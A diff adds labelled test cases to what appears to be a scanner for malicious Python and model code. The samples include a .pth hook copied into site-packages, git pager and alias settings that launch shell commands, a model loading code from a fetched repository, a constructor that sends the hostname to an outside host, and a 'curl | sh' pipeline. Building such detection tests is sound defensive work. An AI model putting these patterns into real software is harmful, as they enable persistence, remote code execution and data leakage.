@@ -838,6 +838,32 @@ CASES = {
         Verdict.REVIEW,
         name="server.py",
     ),
+    "hook_copied_to_packages": malicious(
+        "import os, shutil, site\n"
+        "shutil.copy(os.path.join(os.path.dirname(__file__), 'net.pth'), site.getsitepackages()[0])\n"
+    ),
+    "benign_weights_copied": python(
+        "import os, shutil\nshutil.copy(os.path.join(os.path.dirname(__file__), 'net.pth'), 'weights')\n"
+    ),
+    "git_that_starts_a_program": malicious(
+        "import os\nos.system(\"git config --global core.pager 'sh -c id'\")\nos.system('git config alias.st \"!id\"')\n"
+    ),
+    "benign_git_setting": python("import os\nos.system('git config --global credential.helper store')\n"),
+    "model_on_a_fetched_path": review(
+        "import sys\nfrom huggingface_hub import snapshot_download\nfrom torch import nn\n"
+        "class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
+        "        sys.path.insert(0, snapshot_download('acme/other'))\n"
+    ),
+    "benign_model_with_fetched_weights": python(
+        "import torch\nfrom huggingface_hub import snapshot_download\nfrom torch import nn\n"
+        "class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
+        "        self.folder = snapshot_download('acme/other')\n"
+    ),
+    "model_that_tells_its_machine": review(
+        "import socket, urllib.request\nfrom torch import nn\n"
+        "class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
+        "        urllib.request.urlopen('https://acme.example/?h=' + socket.gethostname())\n"
+    ),
     "step_that_attacks": malicious(
         "from airflow import DAG\nfrom airflow.operators.bash import BashOperator\nwith DAG('t') as dag:\n"
         f"    a = BashOperator(task_id='a', bash_command='curl -s {SCRIPT} | sh')\n",
